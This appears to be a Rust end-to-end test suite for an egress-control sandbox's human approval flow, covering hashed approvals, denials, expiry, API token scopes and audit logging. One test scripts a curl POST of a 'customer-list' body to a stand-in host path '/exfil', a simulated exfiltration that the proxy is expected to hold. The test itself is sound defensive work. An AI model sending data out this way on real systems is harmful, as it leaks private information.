//! Approvals end to end: `airlock run` with curl inside the sandbox, a real
//! HTTPS upstream (Python's `http.server` with a test CA) that logs what
//! arrived, and a reviewer in another process running the real CLI
//! (`airlock approvals list --json`, `show`, `approve ID --sha256 HEX`,
//! `deny`). An `ask` is held until approved by its hash and then arrives
//! exactly once; an approval is single use; a wrong hash, a denial and an
//! expiry refuse; a run that read private data and untrusted content has
//! its write to a host no rule explicitly allows held (`lethal_trifecta`).
//! Every step is checked in the audit log, linked by the hash.

#[path = "sandbox_support.rs"]
mod support;

use airlock_testkit::{DnsAnswer, DnsResponder, TestCa};
use base64::Engine as _;
use serde_json::Value;
use std::net::IpAddr;
use std::path::PathBuf;
use std::process::Command;
use std::time::{Duration, Instant};
use support::{Env, Out, run_bounded};

const UPSTREAM_IP: &str = "127.0.0.2";
const HOSTS: &[&str] = &[
    "api.held.test",
    "pub.test",
    "private.test",
    "drop.test",
    "sink.test",
];

const UPSTREAM_PY: &str = r#"
import http.server, ssl, json, sys
log = open(sys.argv[4], 'a')
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = 'HTTP/1.1'
    def do_GET(self): self.go()
    def do_POST(self): self.go()
    def go(self):
        n = int(self.headers.get('Content-Length') or 0)
        body = self.rfile.read(n).decode() if n else ""
        rec = {"method": self.command, "path": self.path, "host": self.headers.get('Host'), "body": body}
        log.write(json.dumps(rec) + "\n"); log.flush()
        out = (json.dumps({"ok": True, "path": self.path}) + "\n").encode()
        self.send_response(200)
        self.send_header('Content-Type', 'application/json')
        self.send_header('Content-Length', str(len(out)))
        self.end_headers()
        self.wfile.write(out)
    def log_message(self, *a): pass
srv = http.server.ThreadingHTTPServer((sys.argv[1], 0), H)
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(sys.argv[2], sys.argv[3])
srv.socket = ctx.wrap_socket(srv.socket, server_side=True)
print("PORT", srv.server_address[1], flush=True)
srv.serve_forever()
"#;

fn pem(label: &str, der: &[u8]) -> String {
    let b64 = base64::engine::general_purpose::STANDARD.encode(der);
    let mut s = format!("-----BEGIN {label}-----\n");
    for chunk in b64.as_bytes().chunks(64) {
        s.push_str(std::str::from_utf8(chunk).expect("base64 is ASCII"));
        s.push('\n');
    }
    s.push_str(&format!("-----END {label}-----\n"));
    s
}

struct Fixture {
    env: Env,
    port: u16,
    log: PathBuf,
    policy: String,
    _dns: DnsResponder,
    _upstream: airlock_testkit::ProcessGuard,
}

impl Fixture {
    /// `approvals`: the `[approvals]` section's body.
    fn new(approvals: &str) -> Fixture {
        let ip: IpAddr = UPSTREAM_IP.parse().expect("ip");
        let dns = DnsResponder::start();
        for h in HOSTS {
            dns.set(h, DnsAnswer::Fixed(vec![ip]));
        }
        let ca = TestCa::new();
        let base = Env::new();
        let dir = base.dir.path().to_owned();
        let (chain, key) = ca.issue(HOSTS);
        let cert_path = dir.join("up.crt");
        let key_path = dir.join("up.key");
        std::fs::write(&cert_path, pem("CERTIFICATE", &chain[0])).expect("cert");
        std::fs::write(&key_path, pem("PRIVATE KEY", key.secret_der())).expect("key");
        let log = dir.join("upstream.log");
        std::fs::write(&log, "").expect("log");
        let mut py = Command::new("python3");
        py.args(["-c", UPSTREAM_PY, UPSTREAM_IP])
            .arg(&cert_path)
            .arg(&key_path)
            .arg(&log);
        let (guard, line) =
            airlock_testkit::spawn_and_read_line(py, "PORT", Duration::from_secs(20));
        let port: u16 = line
            .split_whitespace()
            .nth(1)
            .and_then(|p| p.parse().ok())
            .expect("upstream port");
        let ca_path = ca.write_pem(&dir, "upstream-ca.pem");
        let env = base.with_config(&format!(
            "[proxy]\nnameservers = [\"{}\"]\nupstream_ca_file = {:?}\n\n[approvals]\n{approvals}\n",
            dns.addr(),
            ca_path.display().to_string()
        ));
        let policy = dir.join("policy.toml");
        std::fs::write(
            &policy,
            format!(
                "mode = \"deny_all\"\nallow_private = [\"{UPSTREAM_IP}/32\"]\n\n\
                 [[rules]]\nhosts = [\"api.held.test\"]\nports = [{port}]\nmethods = [\"POST\"]\naction = \"ask\"\n\n\
                 [[rules]]\nhosts = [\"api.held.test\", \"pub.test\", \"private.test\"]\nports = [{port}]\nmethods = [\"GET\"]\naction = \"allow\"\n\n\
                 [[rules]]\nhosts = [\"drop.test\", \"sink.test\"]\nports = [{port}]\naction = \"allow\"\n\n\
                 [[rules]]\nhosts = [\"sink.test\"]\nports = [{port}]\nmethods = [\"POST\"]\naction = \"allow\"\n"
            ),
        )
        .expect("policy");
        Fixture {
            env,
            port,
            log,
            policy: policy.display().to_string(),
            _dns: dns,
            _upstream: guard,
        }
    }

    fn run(&self, script: &str) -> Out {
        let args = [
            "run",
            "--timeout",
            "80s",
            "--policy",
            &self.policy,
            "--",
            "/bin/sh",
            "-c",
            script,
        ];
        run_bounded(self.env.command(&args))
    }

    fn url(&self, host: &str, path: &str) -> String {
        format!("https://{host}:{}{path}", self.port)
    }

    /// A curl line printing the final status and the reason header.
    fn curl(&self, method: &str, host: &str, path: &str, body: Option<&str>) -> String {
        let data = body
            .map(|b| format!("--data-binary '{b}' "))
            .unwrap_or_default();
        format!(
            "curl -sS --max-time 70 -X {method} {data}-o /tmp/body -D - '{}' | tr -d '\\r' | grep -i -E '^(HTTP|x-airlock-reason)'; cat /tmp/body; echo; echo END\n",
            self.url(host, path)
        )
    }

    fn received(&self) -> Vec<Value> {
        std::fs::read_to_string(&self.log)
            .expect("upstream log")
            .lines()
            .filter_map(|l| serde_json::from_str(l).ok())
            .collect()
    }

    fn cli(&self, args: &[&str]) -> Out {
        self.env.airlock(args)
    }

    /// Wait for a pending approval other than those in `seen`.
    fn next_pending(&self, seen: &[String]) -> Value {
        let start = Instant::now();
        while start.elapsed() < Duration::from_secs(60) {
            let out = self.cli(&["approvals", "list", "--json"]);
            assert!(out.status.success(), "list: {out:?}");
            let items: Vec<Value> = serde_json::from_str(&out.stdout).expect("list --json");
            if let Some(v) = items
                .into_iter()
                .find(|v| !seen.iter().any(|s| v["id"] == s.as_str()))
            {
                return v;
            }
            std::thread::sleep(Duration::from_millis(100));
        }
        panic!("no pending approval appeared");
    }

    /// An approval's state, as `list --json --all` shows it.
    fn state_of(&self, id: &str) -> String {
        let out = self.cli(&["approvals", "list", "--json", "--all"]);
        let items: Vec<Value> = serde_json::from_str(&out.stdout).expect("list --json");
        items
            .iter()
            .find(|v| v["id"] == id)
            .and_then(|v| v["state"].as_str())
            .unwrap_or("")
            .to_owned()
    }

    fn events(&self) -> Vec<Value> {
        self.env
            .audit_tail(1000)
            .into_iter()
            .map(|r| r["event"].clone())
            .collect()
    }
}

/// The final status of each curl (the proxy's `200` to CONNECT comes first).
fn status_lines(stdout: &str) -> Vec<String> {
    stdout
        .split("\nEND\n")
        .filter_map(|block| {
            block
                .lines()
                .rev()
                .find(|l| l.starts_with("HTTP/"))
                .map(|l| l.split_whitespace().nth(1).unwrap_or("").to_owned())
        })
        .collect()
}

fn of<'a>(events: &'a [Value], action: &str) -> Vec<&'a Value> {
    events.iter().filter(|e| e["action"] == action).collect()
}

#[test]
fn an_ask_is_held_approved_by_its_hash_and_runs_exactly_once() {
    let f = Fixture::new("wait_secs = 60\n");
    let script = format!(
        "{}{}",
        f.curl("POST", "api.held.test", "/v1/send", Some("hello")),
        f.curl("POST", "api.held.test", "/v1/send", Some("hello")),
    );
    let (out, first, second) = std::thread::scope(|s| {
        let reviewer = s.spawn(|| {
            let item = f.next_pending(&[]);
            let id = item["id"].as_str().expect("id").to_owned();
            let sha = item["sha256"].as_str().expect("sha256").to_owned();
            assert_eq!(item["reason"], "approval_required");
            // `show` prints the exact canonical call and its hash.
            let shown = f.cli(&["approvals", "show", &id]);
            assert!(shown.status.success(), "{shown:?}");
            let canonical = shown
                .stdout
                .lines()
                .find_map(|l| l.strip_prefix("canonical: "))
                .expect("canonical line");
            assert_eq!(airlock_approval::sha256_hex(canonical.as_bytes()), sha);
            let subject: Value = serde_json::from_str(canonical).expect("canonical JSON");
            assert_eq!(subject["subject"]["method"], "POST");
            assert_eq!(
                subject["subject"]["url"],
                format!("https://api.held.test:{}/v1/send", f.port)
            );
            assert_eq!(
                subject["subject"]["body_sha256"],
                airlock_approval::sha256_hex(b"hello")
            );
            assert!(
                shown.stdout.contains(&format!("sha256: {sha}")),
                "{shown:?}"
            );
            // A wrong hash is refused with a clear error; nothing was approved.
            let wrong = f.cli(&["approvals", "approve", &id, "--sha256", &"ab".repeat(32)]);
            assert!(!wrong.status.success(), "{wrong:?}");
            assert!(
                wrong.stderr.contains("does not match the pending call"),
                "{wrong:?}"
            );
            assert!(f.received().is_empty(), "sent before approval");
            let ok = f.cli(&["approvals", "approve", &id, "--sha256", &sha]);
            assert!(ok.status.success(), "{ok:?}");
            // Used once (wait until the held request consumed it, without
            // recording anything): the same approval again is refused.
            let start = Instant::now();
            while f.state_of(&id) != "consumed" {
                assert!(start.elapsed() < Duration::from_secs(30), "never consumed");
                std::thread::sleep(Duration::from_millis(100));
            }
            let again = f.cli(&["approvals", "approve", &id, "--sha256", &sha]);
            assert!(!again.status.success(), "{again:?}");
            assert!(
                again.stderr.contains("is consumed, not pending"),
                "{again:?}"
            );
            // The identical request again is a new proposal, held again: deny it.
            let item2 = f.next_pending(std::slice::from_ref(&id));
            let id2 = item2["id"].as_str().expect("id").to_owned();
            assert_ne!(id2, id);
            let no = f.cli(&["approvals", "deny", &id2, "--reason", "once is enough"]);
            assert!(no.status.success(), "{no:?}");
            (id, sha, id2)
        });
        let out = f.run(&script);
        let (id, sha, id2) = reviewer.join().expect("reviewer");
        (out, (id, sha), id2)
    });
    assert_eq!(out.code(), 0, "{out:?}");
    assert_eq!(status_lines(&out.stdout), vec!["200", "403"], "{out:?}");
    assert!(
        out.stdout
            .to_ascii_lowercase()
            .contains("x-airlock-reason: approval_denied"),
        "{out:?}"
    );
    // Exactly once upstream, with the approved body.
    let got = f.received();
    assert_eq!(got.len(), 1, "{got:?}");
    assert_eq!(got[0]["method"], "POST");
    assert_eq!(got[0]["path"], "/v1/send");
    assert_eq!(got[0]["body"], "hello");

    let (id, sha) = first;
    let ev = f.events();
    let proposed = of(&ev, "approval.proposed");
    assert_eq!(proposed.len(), 2, "{proposed:?}");
    assert_eq!(proposed[0]["resource"], id.as_str());
    assert_eq!(proposed[0]["details"]["sha256"], sha.as_str());
    assert_eq!(
        proposed[0]["details"]["body_sha256"],
        airlock_approval::sha256_hex(b"hello")
    );
    assert_eq!(proposed[0]["reason"], "approval_required");
    let decided: Vec<(String, String, String)> = of(&ev, "approval.decided")
        .iter()
        .map(|e| {
            (
                e["resource"].as_str().unwrap_or("").to_owned(),
                e["reason"].as_str().unwrap_or("").to_owned(),
                e["details"]["refused"].as_str().unwrap_or("").to_owned(),
            )
        })
        .collect();
    assert_eq!(
        decided,
        vec![
            (id.clone(), "check_failed".into(), "hash_mismatch".into()),
            (id.clone(), "approval_granted".into(), String::new()),
            (id.clone(), "check_failed".into(), "not_pending".into()),
            (second.clone(), "approval_denied".into(), String::new()),
        ]
    );
    for e in of(&ev, "approval.decided") {
        assert_eq!(e["actor"]["kind"], "operator");
        assert!(e["details"]["decided_at"].is_i64());
    }
    let executed = of(&ev, "approval.executed");
    assert_eq!(executed.len(), 1);
    assert_eq!(executed[0]["resource"], id.as_str());
    assert_eq!(executed[0]["details"]["sha256"], sha.as_str());
    let result = of(&ev, "approval.result");
    assert_eq!(result.len(), 1);
    assert_eq!(result[0]["details"]["sha256"], sha.as_str());
    assert_eq!(result[0]["details"]["status"], 200);
    // The held request was first decided `ask`; the refused one is recorded
    // with its reason.
    assert!(
        of(&ev, "egress.request")
            .iter()
            .any(|e| e["decision"] == "ask" && e["reason"] == "approval_required"),
        "{ev:?}"
    );
    let refused: Vec<&Value> = of(&ev, "egress.hook")
        .into_iter()
        .filter(|e| e["reason"] == "approval_denied")
        .collect();
    assert_eq!(refused.len(), 1, "{ev:?}");
    assert_eq!(refused[0]["details"]["approval"], second.as_str());
}

#[test]
fn an_undecided_ask_expires_and_is_refused() {
    let f = Fixture::new("ttl_secs = 2\nwait_secs = 2\n");
    let out = f.run(&f.curl("POST", "api.held.test", "/v1/send", Some("late")));
    assert_eq!(out.code(), 0, "{out:?}");
    assert_eq!(status_lines(&out.stdout), vec!["403"], "{out:?}");
    assert!(
        out.stdout
            .to_ascii_lowercase()
            .contains("x-airlock-reason: approval_expired"),
        "{out:?}"
    );
    assert!(f.received().is_empty());
    // Listed as expired; a late approval is refused.
    let all = f.cli(&["approvals", "list", "--json", "--all"]);
    let items: Vec<Value> = serde_json::from_str(&all.stdout).expect("json");
    assert_eq!(items.len(), 1, "{all:?}");
    assert_eq!(items[0]["state"], "expired");
    let id = items[0]["id"].as_str().expect("id");
    let sha = items[0]["sha256"].as_str().expect("sha");
    let late = f.cli(&["approvals", "approve", id, "--sha256", sha]);
    assert!(!late.status.success(), "{late:?}");
    assert!(late.stderr.contains("is expired, not pending"), "{late:?}");
    let ev = f.events();
    let decided = of(&ev, "approval.decided");
    assert_eq!(decided[0]["reason"], "approval_expired", "{decided:?}");
    assert_eq!(decided[0]["details"]["sha256"], sha);
    assert!(of(&ev, "approval.executed").is_empty());
}

#[test]
fn a_run_with_private_data_and_untrusted_content_has_its_write_held_lethal_trifecta() {
    let f = Fixture::new(
        "wait_secs = 60\nprivate_hosts = [\"private.test\"]\nuntrusted_hosts = [\"pub.test\"]\n",
    );
    let script = format!(
        "{}{}{}{}{}",
        // Before any taint: an allowed write goes straight out.
        f.curl("POST", "drop.test", "/before", Some("a")),
        f.curl("GET", "private.test", "/customers", None),
        f.curl("GET", "pub.test", "/page", None),
        // A rule names this host and method: no approval needed.
        f.curl("POST", "sink.test", "/explicit", Some("b")),
        // A rule allows every method of this host: not an explicit write allow, held.
        f.curl("POST", "drop.test", "/exfil", Some("customer-list")),
    );
    let (out, item) = std::thread::scope(|s| {
        let reviewer = s.spawn(|| {
            let item = f.next_pending(&[]);
            let id = item["id"].as_str().expect("id").to_owned();
            let no = f.cli(&["approvals", "deny", &id]);
            assert!(no.status.success(), "{no:?}");
            item
        });
        let out = f.run(&script);
        (out, reviewer.join().expect("reviewer"))
    });
    assert_eq!(out.code(), 0, "{out:?}");
    assert_eq!(
        status_lines(&out.stdout),
        vec!["200", "200", "200", "200", "403"],
        "{out:?}"
    );
    assert!(out.stdout.contains("lethal_trifecta"), "{out:?}");
    assert!(
        out.stdout
            .contains("\"taint\":[\"private_data\",\"untrusted_content\"]"),
        "{out:?}"
    );
    // What the reviewer was shown.
    assert_eq!(item["reason"], "lethal_trifecta");
    assert_eq!(
        item["taint"],
        serde_json::json!(["private_data", "untrusted_content"])
    );
    assert_eq!(
        item["subject"]["subject"]["url"],
        format!("https://drop.test:{}/exfil", f.port)
    );
    let paths: Vec<String> = f
        .received()
        .iter()
        .map(|r| r["path"].as_str().unwrap_or("").to_owned())
        .collect();
    assert_eq!(paths, vec!["/before", "/customers", "/page", "/explicit"]);

    let ev = f.events();
    let taint: Vec<(String, String)> = of(&ev, "run.taint")
        .iter()
        .map(|e| {
            (
                e["details"]["label"].as_str().unwrap_or("").to_owned(),
                e["details"]["source"].as_str().unwrap_or("").to_owned(),
            )
        })
        .collect();
    assert_eq!(
        taint,
        vec![
            ("private_data".into(), "private.test".into()),
            ("untrusted_content".into(), "pub.test".into())
        ]
    );
    let proposed = of(&ev, "approval.proposed");
    assert_eq!(proposed.len(), 1);
    assert_eq!(proposed[0]["reason"], "lethal_trifecta");
    assert_eq!(
        proposed[0]["details"]["taint"],
        serde_json::json!(["private_data", "untrusted_content"])
    );
    let hook: Vec<&Value> = of(&ev, "egress.hook");
    assert_eq!(hook.len(), 1, "{hook:?}");
    assert_eq!(hook[0]["reason"], "approval_denied");
    assert_eq!(hook[0]["details"]["asked_because"], "lethal_trifecta");
    assert_eq!(
        hook[0]["details"]["taint"],
        serde_json::json!(["private_data", "untrusted_content"])
    );
}

/// `airlock serve` on the fixture's data directory, with curl as its client.
struct Api {
    child: std::process::Child,
    base: String,
    cert: PathBuf,
    token: String,
}

impl Drop for Api {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Api {
    fn start(f: &Fixture, scopes: &[&str]) -> Api {
        let out = f.cli(&["tenant", "create", "default"]);
        assert!(out.status.success(), "{out:?}");
        let mut args = vec!["--tenant", "default", "token", "create"];
        for s in scopes {
            args.extend(["--scope", s]);
        }
        let out = f.cli(&args);
        assert!(out.status.success(), "{out:?}");
        let token = out.stdout.trim().to_owned();
        let port = std::net::TcpListener::bind("127.0.0.1:0")
            .and_then(|l| l.local_addr())
            .expect("port")
            .port();
        let mut cmd = f
            .env
            .command(&["serve", "--listen", &format!("127.0.0.1:{port}")]);
        cmd.stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null());
        let api = Api {
            child: cmd.spawn().expect("serve"),
            base: format!("https://127.0.0.1:{port}"),
            cert: f.env.data.join("api-dev-cert.pem"),
            token,
        };
        let start = Instant::now();
        while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
            assert!(
                start.elapsed() < Duration::from_secs(20),
                "serve did not start"
            );
            std::thread::sleep(Duration::from_millis(50));
        }
        api
    }

    /// `(status, body)` of one request with the reviewer's token.
    fn call(&self, method: &str, path: &str, body: Option<&str>) -> (u16, Value) {
        self.call_as(&self.token, method, path, body)
    }

    fn call_as(&self, token: &str, method: &str, path: &str, body: Option<&str>) -> (u16, Value) {
        let mut c = Command::new("curl");
        c.args(["-s", "--max-time", "20", "--cacert"])
            .arg(&self.cert)
            .args(["-X", method, "-w", "\n%{http_code}"])
            .args(["-H", &format!("Authorization: Bearer {token}")]);
        if let Some(b) = body {
            c.args(["-H", "Content-Type: application/json", "--data-binary", b]);
        }
        let o = c
            .arg(format!("{}{path}", self.base))
            .output()
            .expect("curl");
        let text = String::from_utf8_lossy(&o.stdout).into_owned();
        let (body, status) = text.rsplit_once('\n').unwrap_or(("", "0"));
        (
            status.trim().parse().unwrap_or(0),
            serde_json::from_str(body).unwrap_or(Value::Null),
        )
    }
}

#[test]
fn an_ask_is_decided_through_the_api_by_the_hash_of_what_was_shown() {
    let f = Fixture::new("wait_secs = 60\n");
    let api = Api::start(&f, &["approvals:read", "approvals:decide"]);
    let reader = {
        let out = f.cli(&[
            "--tenant",
            "default",
            "token",
            "create",
            "--scope",
            "approvals:read",
        ]);
        assert!(out.status.success(), "{out:?}");
        out.stdout.trim().to_owned()
    };
    let script = format!(
        "{}{}",
        f.curl("POST", "api.held.test", "/v1/send", Some("hello")),
        f.curl("POST", "api.held.test", "/v1/send", Some("again")),
    );
    let (out, first) = std::thread::scope(|s| {
        let reviewer = s.spawn(|| {
            let wait = |seen: &[String]| -> Value {
                let start = Instant::now();
                loop {
                    let (st, list) = api.call("GET", "/v1/approvals", None);
                    assert_eq!(st, 200, "{list}");
                    if let Some(v) = list.as_array().and_then(|l| {
                        l.iter()
                            .find(|v| !seen.iter().any(|s| v["id"] == s.as_str()))
                            .cloned()
                    }) {
                        return v;
                    }
                    assert!(start.elapsed() < Duration::from_secs(60), "nothing pending");
                    std::thread::sleep(Duration::from_millis(100));
                }
            };
            let item = wait(&[]);
            let id = item["id"].as_str().expect("id").to_owned();
            // What the reviewer is shown hashes to what must be sent back.
            let (st, shown) = api.call("GET", &format!("/v1/approvals/{id}"), None);
            assert_eq!(st, 200, "{shown}");
            let canonical = shown["canonical"].as_str().expect("canonical");
            let sha = airlock_approval::sha256_hex(canonical.as_bytes());
            assert_eq!(shown["sha256"], sha.as_str());
            // A plan tampered with on the way to the reviewer hashes
            // differently; that hash approves nothing.
            let tampered = canonical.replace("/v1/send", "/v1/sent");
            let bad = airlock_approval::sha256_hex(tampered.as_bytes());
            let path = format!("/v1/approvals/{id}/approve");
            let (st, err) = api.call("POST", &path, Some(&format!(r#"{{"sha256":"{bad}"}}"#)));
            assert_eq!(
                (st, err["error"]["code"].as_str()),
                (409, Some("conflict")),
                "{err}"
            );
            assert!(f.received().is_empty(), "sent before approval");
            // A read-only token cannot decide.
            let body = format!(r#"{{"sha256":"{sha}"}}"#);
            let (st, _) = api.call_as(&reader, "POST", &path, Some(&body));
            assert_eq!(st, 403);
            let (st, ok) = api.call("POST", &path, Some(&format!(r#"{{"sha256":"{sha}"}}"#)));
            assert_eq!((st, ok["state"].as_str()), (200, Some("approved")), "{ok}");
            // The second request: denied through the API.
            let item2 = wait(std::slice::from_ref(&id));
            let id2 = item2["id"].as_str().expect("id").to_owned();
            let (st, no) = api.call(
                "POST",
                &format!("/v1/approvals/{id2}/deny"),
                Some(r#"{"reason":"not twice"}"#),
            );
            assert_eq!((st, no["state"].as_str()), (200, Some("denied")), "{no}");
            let (st, _) = api.call("GET", "/v1/approvals/nope", None);
            assert_eq!(st, 404);
            id
        });
        let out = f.run(&script);
        (out, reviewer.join().expect("reviewer"))
    });
    assert_eq!(status_lines(&out.stdout), ["200", "403"], "{out:?}");
    let got = f.received();
    assert_eq!(got.len(), 1, "exactly the approved request: {got:?}");
    let events = f.events();
    let decided: Vec<&Value> = events
        .iter()
        .filter(|e| e["action"] == "approval.decided")
        .collect();
    assert!(
        decided
            .iter()
            .any(|e| e["actor"]["kind"] == "token" && e.to_string().contains(&first)),
        "the API's decisions are recorded with the token as the actor: {decided:#?}"
    );
}
